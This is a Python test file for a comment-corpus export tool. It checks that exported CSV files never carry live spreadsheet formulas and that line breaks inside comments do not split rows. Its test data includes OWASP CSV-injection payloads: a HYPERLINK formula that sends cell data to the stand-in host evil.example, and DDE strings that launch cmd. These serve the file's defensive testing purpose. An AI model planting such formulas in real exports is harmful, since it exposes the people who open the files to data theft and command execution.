"""Hostile comment texts in CSV exports: formulas never reach a spreadsheet live, a bare CR never
splits a row, and the annotation CSV still round-trips every cell exactly."""

from __future__ import annotations

import csv
import io

import pytest

from commentscope.export.annotation import annotation_rows, write_annotation_file
from commentscope.export.corpus import ExportOptions, export_corpus
from commentscope.export.csvsafe import safe_cell
from commentscope.export.formats import read_rows
from commentscope.export.scrub import scrub
from commentscope.export.selection import ExportFilter
from tests.hostile.lakes import enriched_lake

# OWASP "CSV Injection" payloads, as they could arrive in a public comment
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "   =1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
    "'=already quoted by the author",
]
LINE_BREAKS = ["first line\rsecond line", "a\r\nb", "ends with cr\r", "x\ny"]
PLAIN = ["biasa saja, video bagus", "mantap kak"]
TEXTS = FORMULAS + LINE_BREAKS + PLAIN


@pytest.fixture(scope="module")
def lake(tmp_path_factory):
    return enriched_lake(tmp_path_factory.mktemp("csv"), TEXTS)[0]


def _live_formula(cell: str) -> bool:
    """What a spreadsheet evaluates: a cell starting with = + - @ (after spaces), a tab or a CR."""
    if not cell:
        return False
    stripped = cell.lstrip()
    return cell[0] in "\t\r" or (bool(stripped) and stripped[0] in "=+-@\uff1d")


def _rows_as_a_spreadsheet_reads_them(data: bytes) -> list[list[str]]:
    """Universal newlines, as spreadsheets treat a bare CR outside quotes as the end of a row."""
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline=None)))


def _check(path, expected_rows: int) -> list[list[str]]:
    rows = _rows_as_a_spreadsheet_reads_them(path.read_bytes())
    assert len(rows) == expected_rows + 1, "a line break inside a comment split a row"
    width = len(rows[0])
    assert all(len(r) == width for r in rows)
    live = [cell for row in rows for cell in row if _live_formula(cell)]
    assert live == [], f"formula cells written live: {live}"
    return rows


def test_corpus_csv_has_no_live_formula_and_no_split_row(lake, tmp_path):
    out = tmp_path / "corpus"
    options = ExportOptions(filters=ExportFilter(campaign="hx"), formats=("csv",))
    export_corpus(lake, lake.connect(), out, options)
    texts = []
    for split in ("train", "validation", "test"):
        path = out / "data" / f"{split}.csv"
        if path.exists():
            _check(path, len(read_rows(path)))
            texts += [r["text"] for r in read_rows(path)]
    assert sorted(texts) == sorted(map(scrub, TEXTS)), "read back: the scrubbed texts"


def test_annotation_csv_is_safe_and_round_trips(lake, tmp_path):
    rows = annotation_rows(lake.connect(), lake, ExportFilter(campaign="hx"))
    sheet = write_annotation_file(tmp_path / "review.csv", rows)[0]
    _check(sheet, len(TEXTS))
    back = read_rows(sheet)
    assert sorted(r["text"] for r in back) == sorted(map(scrub, TEXTS))
    assert [r["id"] for r in back] == [r["id"] for r in rows]


@pytest.mark.parametrize("cell", ["-5", "  @x", "\n=1", "'"])
def test_every_risky_start_is_prefixed(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "a=b", "user@example", "5-3", "café"])
def test_harmless_cells_are_unchanged(cell):
    assert safe_cell(cell) == cell
